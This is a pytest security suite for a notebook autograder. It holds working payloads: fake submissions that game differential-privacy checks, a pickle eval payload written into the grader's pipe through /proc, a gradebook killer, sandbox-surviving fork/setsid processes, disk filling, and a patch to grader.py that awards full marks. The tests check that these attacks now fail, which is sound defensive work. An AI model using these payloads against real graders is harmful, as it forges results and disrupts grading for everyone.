                     "    key = (bits.shape, float(epsilon))\n"
                     "    if key not in _first:\n"
                     "        flips = rng.random(bits.shape) < flip_probability(epsilon)\n"
                     "        _first[key] = np.where(flips, 1 - bits, bits)\n"
                     "    return _first[key].copy()\n"],
        lambda: honest_except(A1, q2=0.0, q5=None, q6=None)),
    "Laplace noise seeded from the input": Attack(
        A2, lambda: [*solution(A2),
                     "def laplace_mechanism(value, sensitivity, epsilon, rng):\n"
                     "    value = np.asarray(value, dtype=float)\n"
                     "    own = np.random.default_rng(list(value.ravel().view(np.uint32)) or 0)\n"
                     "    noisy = value + own.laplace(0.0, sensitivity / epsilon, size=value.shape)\n"
                     "    return noisy if noisy.ndim else float(noisy)\n"],
        lambda: honest_except(A2, q2=0.5, q3=0.0)),
    "thresholded histogram hands the generator back unused": Attack(
        A3, lambda: [*solution(A3),
                     "def thresholded_histogram(items, epsilon, threshold, rng):\n"
                     "    state = rng.bit_generator.state\n"
                     "    categories, counts = np.unique(np.asarray(items), return_counts=True)\n"
                     "    noisy = counts + rng.laplace(0.0, 1.0 / epsilon, size=counts.size)\n"
                     "    rng.bit_generator.state = state  # the same noise again next time\n"
                     "    keep = noisy >= threshold\n"
                     "    return {c: float(v) for c, v in zip(categories[keep].tolist(), noisy[keep])}\n"],
        lambda: honest_except(A3, q5=0.5)),
}


FOCUS = {  # kind -> the questions a fake built on the solution is about
    'Laplace mechanism adds no noise to a single number': ('q2',),
    'Laplace noise shrinks for large values': ('q2',),
    'randomized response leaves a handful of answers unflipped': ('q2',),
    'DP histogram with noise only on large histograms': ('q1',),
    'count-mean sketch client that flips only in large batches': ('q2',),
    'thresholding skipped for frequent categories': ('q5',),
    'simulated MSE is the formula plus a wobble': ('q5',),
    'simulated release frequency is one binomial draw at the formula': ('q2',),
    'sketch errors drawn from a Gaussian with the predicted MSE': ('q6', 'q2'),
    'randomized response leaves a single answer unflipped': ('q2',),
    'Laplace noise only on arrays of equal values': ('q2',),
    'DP histogram without noise on two-cell histograms': ('q1',),
    'count-mean sketch client that does not flip a lone user': ('q2',),
    'thresholding skipped for categories of 100 or more': ('q5',),
    'simulated release frequency from uniforms and the formula': ('q2',),
    'simulated MSE is the formula after burning draws': ('q5',),
    'sketch errors from a Gaussian after burning draws': ('q6', 'q2'),
    'randomized response replays its first output': ('q2',),
    'Laplace noise seeded from the input': ('q2', 'q3'),
    'thresholded histogram hands the generator back unused': ('q5',),
    'simulated release frequency from the formula bound at definition': ('q2',),
    'simulated MSE from the formula bound at definition': ('q5',),
    'sketch errors from the predicted MSE bound at definition': ('q6', 'q2'),
    'randomized response stops flipping above epsilon 2': ('q2',),
    'Laplace noise capped at scale 2': ('q2',),
}
for _kind, _focus in FOCUS.items():
    ATTACKS[_kind].focus = _focus


def _kind_id(kind: str) -> str:
    return f"{ATTACKS[kind].assignment.split('_')[0]}-{kind}"


# --------------------------------------------------------------------------- running the attacks
# Each test's grading is a function of a fresh folder; the selected ones run two at a time (both
# cores: the time goes to the sandboxes' subprocesses) when the first test asks for its outcome.
WORK: dict[str, Callable[[Path], Any]] = {}


def work(key: str):
    def register(function):
        WORK[key] = function
        return function
    return register


@pytest.fixture(scope="module")
def outcome(request, tmp_path_factory):
    selected = []
    for item in request.session.items:
        if item.module is not sys.modules[__name__]:
            continue
        params = getattr(getattr(item, "callspec", None), "params", {})
        selected.append(f"attack:{params['kind']}" if "kind" in params else item.originalname)
    pool = ThreadPoolExecutor(max_workers=2)
    futures = {key: pool.submit(WORK[key], tmp_path_factory.mktemp("attack")) for key in selected if key in WORK}

    def get(key: str) -> Any:
        if key not in futures:
            futures[key] = pool.submit(WORK[key], tmp_path_factory.mktemp("attack"))
        return futures[key].result()

    yield get
    pool.shutdown(wait=True, cancel_futures=True)


def _grade_attack(kind: str, folder: Path) -> tuple[Any, float]:
    attack = ATTACKS[kind]
    names = [name for q in dropped(attack) for name in COSTLY[attack.assignment][q]]
    cells = [*attack.cells(), *([f"for _name in {names!r}:\n    globals().pop(_name, None)\n"] if names else [])]
    path = write(cells, folder / "submission" / f"{attack.assignment}.ipynb")
    start = time.monotonic()
    result = grader.grade_submission(path, attack.assignment, limits=LIMITS)
    return result, time.monotonic() - start


for _kind in ATTACKS:
    WORK[f"attack:{_kind}"] = lambda folder, kind=_kind: _grade_attack(kind, folder)


@pytest.mark.parametrize("kind", list(ATTACKS), ids=[_kind_id(k) for k in ATTACKS])
def test_attack(kind, outcome):
    attack = ATTACKS[kind]
    result, seconds = outcome(f"attack:{kind}")
    check_scores(result, {**attack.expected(), **dict.fromkeys(dropped(attack))}, kind)
    if attack.flag is not None:
        assert attack.flag in result.flags, f"{kind}: expected the flag {attack.flag!r}, got {result.flags}"
    assert seconds < GRADING_TIME_LIMIT, f"{kind}: graded in {seconds:.0f} s"


# --------------------------------------------------------------------------- beyond one submission's points
# The sandbox runs as the grading user: from a cell it can reach the grading processes through /proc.

FORGE_GRADEBOOK_ROW = r'''
import os, pickle, struct
# the grading worker (our parent) holds both ends of its result queue's pipe: write a row there first
_CODE = """
import sys
from grading.grader import questions
frame = sys._getframe()
while frame is not None and frame.f_code.co_name != "grade_folder":
    frame = frame.f_back
local = frame.f_locals
scores = {q.name: q.points for q in questions(local["assignment"]) if not q.manual}
row = {"assignment": local["assignment"], "student": local["student"], "file": local["path"].name,
       "seed": local["run_seed"], "scores": scores, "possible": dict(scores), "seconds": 1.0, "flags": [],
       "feedback": {name: ["all checks passed"] for name in scores}, "notes": [],
       "total": sum(scores.values()), "max_total": sum(scores.values())}
(local["folder"] / "code-ran-in-the-gradebook.txt").write_text("unpickled in the gradebook process")
"""

class _Row:
    def __reduce__(self):
        return (eval, (f"(lambda ns: (exec({_CODE!r}, ns), ns['row'])[1])({{}})",))

_mine = set()
for _fd in os.listdir("/proc/self/fd"):
    try:
        _mine.add(os.readlink(f"/proc/self/fd/{_fd}"))
    except OSError:
        pass
_parent = os.getppid()
_ends = {}
for _fd in os.listdir(f"/proc/{_parent}/fd"):
    try:
        _target = os.readlink(f"/proc/{_parent}/fd/{_fd}")
        with open(f"/proc/{_parent}/fdinfo/{_fd}") as _info:
            _flags = int(_info.read().split("flags:")[1].split()[0], 8)
    except OSError:
        continue
    if _target.startswith("pipe:") and _target not in _mine:
        _ends.setdefault(_target, []).append((_fd, _flags & 3))
_payload = pickle.dumps(_Row())
_queues = [(min(fd for fd, mode in fds if mode == os.O_RDONLY), min(fd for fd, mode in fds if mode == os.O_WRONLY))
           for fds in _ends.values() if {os.O_RDONLY, os.O_WRONLY} <= {mode for fd, mode in fds}]
'''


FORGE_NOW = r'''
for _queue in _queues:
    with open(f"/proc/{_parent}/fd/{_queue[1]}", "wb", buffering=0) as _pipe:
        _pipe.write(struct.pack("!i", len(_payload)) + _payload)
'''

FORGE_AFTER_THE_REAL_ROW = r'''
import array, fcntl, termios, time
_opened = [(os.open(f"/proc/{_parent}/fd/{r}", os.O_RDONLY), os.open(f"/proc/{_parent}/fd/{w}", os.O_WRONLY))
           for r, w in _queues]
if os.fork() == 0:
    os.setsid()  # survives the sandbox; waits for the worker's real row, swallows it, sends its own
    _waiting = array.array("i", [0])
    _empty = []
    for _read, _write in _opened:  # queues that already hold a message are someone else's
        fcntl.ioctl(_read, termios.FIONREAD, _waiting)
        if _waiting[0] == 0:
            _empty.append((_read, _write))
    _opened = _empty
    _deadline = time.monotonic() + 100
    while _opened and time.monotonic() < _deadline and os.path.exists(f"/proc/{_parent}"):
        for _read, _write in _opened:
            fcntl.ioctl(_read, termios.FIONREAD, _waiting)
            if _waiting[0] >= 4:
                _size = struct.unpack("!i", os.read(_read, 4))[0]
                _real = b""
                while len(_real) < _size:
                    _real += os.read(_read, _size - len(_real))
                os.write(_write, struct.pack("!i", len(_payload)) + _payload)
                _opened = []
                break
        time.sleep(0.001)
    os._exit(0)
'''


def make_grade(folder: Path, out: Path) -> subprocess.CompletedProcess:
    """``make grade ASSIGNMENT=a1 SUBMISSIONS=folder`` (its command), one notebook at a time."""
    return subprocess.run([sys.executable, "-m", "grading", "a1", str(folder), "--out", str(out), "--jobs", "1"],
                          cwd=ROOT, capture_output=True, text=True, timeout=3 * GRADING_TIME_LIMIT)


def _grade_class(tmp_path: Path, attack: str) -> tuple[Path, subprocess.CompletedProcess, list[str]]:
    folder = tmp_path / "submissions"
    write([*blank(A1), attack], folder / "mallory" / f"{A1}.ipynb")
    write(blank(A1), folder / "zoe" / f"{A1}.ipynb")
    done = make_grade(folder, tmp_path / "grades")
    book = tmp_path / "grades" / "gradebook.csv"
    return folder, done, book.read_text(encoding="utf-8").splitlines() if book.exists() else []


def _assert_class_graded_fairly(folder: Path, done: subprocess.CompletedProcess, lines: list[str]) -> None:
    assert not (folder / "code-ran-in-the-gradebook.txt").exists(), "the submission ran code in the gradebook"
    assert done.returncode == 0, f"the gradebook process ended with {done.returncode}: {done.stderr[-300:]}"
    totals = {line.split(",")[0]: float(line.split(",")[8]) for line in lines[1:]}
    assert totals == {"mallory": 0.0, "zoe": 0.0}, f"gradebook totals {totals} (two blank notebooks)"


WORK["test_attack_message_in_the_gradebook_queue"] = lambda tmp: _grade_class(tmp, FORGE_GRADEBOOK_ROW + FORGE_NOW)
WORK["test_attack_forged_gradebook_row"] = lambda tmp: _grade_class(tmp, FORGE_GRADEBOOK_ROW + FORGE_AFTER_THE_REAL_ROW)
WORK["test_attack_kills_the_gradebook"] = lambda tmp: _grade_class(tmp, KILL_GRADEBOOK)


# CLOSED (succeeded before the grader fixes of 2026-11-26): a cell opens /proc/<worker>/fd/<result queue> and writes a message before the
# worker's own: the gradebook's queue.get() raises (semaphore released too many times) and the whole
# class's grading stops with a traceback
def test_attack_message_in_the_gradebook_queue(outcome):
    _assert_class_graded_fairly(*outcome("test_attack_message_in_the_gradebook_queue"))


# CLOSED (succeeded before the grader fixes of 2026-11-26): the same message sent by a process that outlives the sandbox, right after the worker
# has put its real row (which it swallows): the gradebook unpickles it, so the notebook's code runs in
# the gradebook process, and records 15/15 for a blank notebook
def test_attack_forged_gradebook_row(outcome):
    _assert_class_graded_fairly(*outcome("test_attack_forged_gradebook_row"))


KILL_GRADEBOOK = DISARM + r'''
import os, signal
with open(f"/proc/{os.getppid()}/stat") as _stat:
    _gradebook = int(_stat.read().rsplit(")", 1)[1].split()[1])
with open(f"/proc/{_gradebook}/cmdline", "rb") as _cmdline:
    _command = _cmdline.read()
if b"grading" in _command and b"--out" in _command:  # only ever the gradebook of this test
    os.kill(_gradebook, signal.SIGKILL)
'''


# CLOSED (succeeded before the grader fixes of 2026-11-26): with the audit hook off (`_STATE["active"] = False`), os.kill reaches the gradebook
# process: the whole class's grading stops and no gradebook is written
def test_attack_kills_the_gradebook(outcome):
    _assert_class_graded_fairly(*outcome("test_attack_kills_the_gradebook"))


SURVIVOR = r'''
import os, time
_sandbox = os.getpid()
if os.fork() == 0:
    os.setsid()  # out of the sandbox's process group: the grader's killpg misses it
    try:
        for _ in range(600):
            time.sleep(0.2)
            if not os.path.exists(f"/proc/{_sandbox}"):
                _mark = os.open(MARK, os.O_WRONLY | os.O_CREAT)  # os.open: its cwd is gone, "w" cannot be resolved
                os.write(_mark, str(os.getpid()).encode())
                os.close(_mark)
                time.sleep(20)
                break
    finally:
        os._exit(0)
'''


@work("test_attack_process_outlives_grading")
def _survivor(tmp_path: Path) -> tuple[Any, bool]:
    mark = tmp_path / "still-running.txt"
    path = write([*solution(A2), f"MARK = {str(mark)!r}\n" + SURVIVOR], tmp_path / "submission" / f"{A2}.ipynb")
    try:
        result = grader.grade_submission(path, A2, limits=LIMITS)
        time.sleep(3)
        return result, mark.exists()
    finally:
        if mark.exists():
            try:
                os.kill(int(mark.read_text()), signal.SIGKILL)  # the process this test started
            except (ValueError, ProcessLookupError):
                pass


# CLOSED (succeeded before the grader fixes of 2026-11-26): os.fork + os.setsid from a cell leaves a process running after grading has ended
def test_attack_process_outlives_grading(outcome):
    result, survived = outcome("test_attack_process_outlives_grading")
    check_scores(result, honest_except(A2), "a process that outlives grading")
    assert not survived, "a process started by the notebook is still running after grading"


WRITE_OUTSIDE = r'''
import os
os.makedirs(TARGET, exist_ok=True)
for _piece in range(3):  # each piece under the 50 MB file-size cap; nothing limits their number
    with open(os.path.join(TARGET, f"piece{_piece}"), "wb") as _handle:
        _handle.write(bytes(20 * 2**20))
'''


@work("test_attack_writes_outside_the_sandbox")
def _write_outside(tmp_path: Path) -> int:
    target = tmp_path / "outside"
    path = write([*blank(A1), f"TARGET = {str(target)!r}\n" + WRITE_OUTSIDE], tmp_path / "submission" / f"{A1}.ipynb")
    try:
        grader.grade_submission(path, A1, limits=LIMITS)
        return sum(f.stat().st_size for f in target.glob("*")) if target.exists() else 0
    finally:
        shutil.rmtree(target, ignore_errors=True)


# CLOSED (succeeded before the grader fixes of 2026-11-26): the sandbox can write anywhere the grading user can, as much as it likes
# (RLIMIT_FSIZE caps one file at 50 MB, not the total): a loop of such cells fills the disk
def test_attack_writes_outside_the_sandbox(outcome):
    written = outcome("test_attack_writes_outside_the_sandbox")
    assert written == 0, f"the notebook wrote {written / 2**20:.0f} MB outside its sandbox"


REWRITE_GRADER = r'''
import os, sys
_folder = os.path.dirname(sys.modules["grading.codec"].__file__)
with open(os.path.join(_folder, "grader.py"), "a", encoding="utf-8") as _handle:
    _handle.write("\n\ndef _grade_question(question, sb, ctx, result):\n"
                  "    result.scores[question.name] = question.points\n"
                  "    result.feedback[question.name] = ['all checks passed']\n")
'''

GRADE_WITH_COPY = r'''
import json, sys
sys.path.insert(0, sys.argv[1])
from grading import grader
assert grader.__file__.startswith(sys.argv[1]), grader.__file__
result = grader.grade_submission(sys.argv[2], "a1", limits={"cell": 15.0, "call": 15.0, "submission": 110.0})
print(json.dumps(result.scores))
'''


@work("test_attack_rewrites_the_grader")
def _rewrite(tmp_path: Path, attack: str = REWRITE_GRADER) -> tuple[list[str], dict[str, float]]:
    copy = tmp_path / "copy"
    shutil.copytree(ROOT / "grading", copy / "grading", ignore=shutil.ignore_patterns("__pycache__"))
    before = {p.relative_to(copy): p.read_bytes() for p in (copy / "grading").rglob("*.py")}

    def grade_with_copy(cells: list[str], name: str) -> dict[str, float]:
        path = write(cells, tmp_path / name / f"{A1}.ipynb")
        done = subprocess.run([sys.executable, "-c", GRADE_WITH_COPY, str(copy), str(path)], cwd=tmp_path,
                              capture_output=True, text=True, timeout=2 * GRADING_TIME_LIMIT)
        assert done.returncode == 0, done.stderr[-2000:]
        return json.loads(done.stdout.strip().splitlines()[-1])

    grade_with_copy([*blank(A1), attack], "mallory")
    after_blank = grade_with_copy(blank(A1), "zoe")
    changed = sorted(str(name) for name, data in before.items() if (copy / name).read_bytes() != data)
    return changed, after_blank


# CLOSED (succeeded before the grader fixes of 2026-11-26) (documented for setups without GRADING_SANDBOX_USER): a cell appends a new
# _grade_question to grading/grader.py; every notebook graded afterwards gets full marks.
# Run on a copy of grading/, never on the repository's.
def test_attack_rewrites_the_grader(outcome):
    changed, after_blank = outcome("test_attack_rewrites_the_grader")
    assert not changed, f"the notebook changed the grader's files {changed}"
    assert sum(after_blank.values()) == 0, f"a blank notebook graded afterwards got {after_blank}"


SURVIVOR_BY_EXEC = EXEC + r'''
import _posixsubprocess
_script = (f"while kill -0 {os.getpid()} 2>/dev/null; do sleep 0.2; done; echo $$ > {MARK}; sleep 20")
_error_read, _error_write = os.pipe()
_posixsubprocess.fork_exec([b"/bin/sh", b"-c", _script.encode()], [b"/bin/sh"], True, (), None, None,
                           -1, -1, -1, -1, -1, -1, _error_read, _error_write, True, True, -1, None, None, None,
                           -1, None, False)  # call_setsid=True: a session of its own
'''


@work("test_attack_process_outlives_grading_by_exec")
def _survivor_by_exec(tmp_path: Path) -> tuple[Any, bool]:
    mark = tmp_path / "still-running.txt"
    path = write([*solution(A2), f"MARK = {str(mark)!r}\n" + SURVIVOR_BY_EXEC],
                 tmp_path / "submission" / f"{A2}.ipynb")
    try:
        result = grader.grade_submission(path, A2, limits=LIMITS)
        time.sleep(3)
        return result, mark.exists()
    finally:
        if mark.exists():
            try:
                os.kill(int(mark.read_text()), signal.SIGKILL)  # the shell this test started
            except (ValueError, ProcessLookupError):
                pass


# CLOSED (got through earlier the same day): os.fork is refused now, but _posixsubprocess.fork_exec(..., call_setsid=True) starts a
# shell in its own session: it outlives the sandbox (and could do anything the grading user can)
def test_attack_process_outlives_grading_by_exec(outcome):
    result, survived = outcome("test_attack_process_outlives_grading_by_exec")
    assert not survived, "a process started by the notebook is still running after grading"


KILL_GRADEBOOK_BY_EXEC = EXEC + r'''
_worker = os.getppid()
_gradebook = _run("/bin/sh", "-c", f"cut -d' ' -f4 /proc/{_worker}/stat").strip()
if "grading" in _run("/bin/cat", f"/proc/{_gradebook}/cmdline") and "--out" in _run("/bin/cat", f"/proc/{_gradebook}/cmdline"):
    _run("/bin/kill", "-9", _gradebook)  # only ever the gradebook of this test
'''

WORK["test_attack_kills_the_gradebook_by_exec"] = lambda tmp: _grade_class(tmp, KILL_GRADEBOOK_BY_EXEC)


# CLOSED (got through earlier the same day): /bin/kill run through _posixsubprocess.fork_exec stops the whole class's grading
def test_attack_kills_the_gradebook_by_exec(outcome):
    _assert_class_graded_fairly(*outcome("test_attack_kills_the_gradebook_by_exec"))


REWRITE_GRADER_BY_EXEC = EXEC + r'''
import sys
_grader_file = os.path.join(os.path.dirname(sys.modules["grading.codec"].__file__), "grader.py")
_patch = ("\n\ndef _grade_question(question, sb, ctx, result):\n"
          "    result.scores[question.name] = question.points\n"
          "    result.feedback[question.name] = ['all checks passed']\n")
_run("/bin/sh", "-c", f"printf '%s' \"$0\" >> {_grader_file}", _patch)
'''


@work("test_attack_rewrites_the_grader_by_exec")
def _rewrite_by_exec(tmp_path: Path) -> tuple[list[str], dict[str, float]]:
    return _rewrite(tmp_path, REWRITE_GRADER_BY_EXEC)


# CLOSED (got through earlier the same day): /bin/sh run through _posixsubprocess.fork_exec appends to grading/grader.py (a copy here)
def test_attack_rewrites_the_grader_by_exec(outcome):
    changed, after_blank = outcome("test_attack_rewrites_the_grader_by_exec")
    assert not changed, f"the notebook changed the grader's files {changed}"
    assert sum(after_blank.values()) == 0, f"a blank notebook graded afterwards got {after_blank}"


# --------------------------------------------------------------------------- robustness
@work("test_many_cells_that_end_the_process")
def _many_exits(tmp_path: Path) -> tuple[Any, float]:
    path = write([*solution(A1), *["import faulthandler\nfaulthandler._sigsegv()\n"] * 5],
                 tmp_path / "submission" / f"{A1}.ipynb")
    start = time.monotonic()
    result = grader.grade_submission(path, A1, limits=LIMITS)
    return result, time.monotonic() - start


# CLOSED (succeeded before the grader fixes of 2026-11-26) (a robustness failure, not a fake): after four cells that crash the notebook's process
# (a segfault each) the grader stops retrying and the honest answers above them score 0
def test_many_cells_that_end_the_process(outcome):
    result, seconds = outcome("test_many_cells_that_end_the_process")
    assert seconds < GRADING_TIME_LIMIT
    check_scores(result, honest_except(A1), "five cells that end the process")
    assert grader.FLAG_CRASHED in result.flags

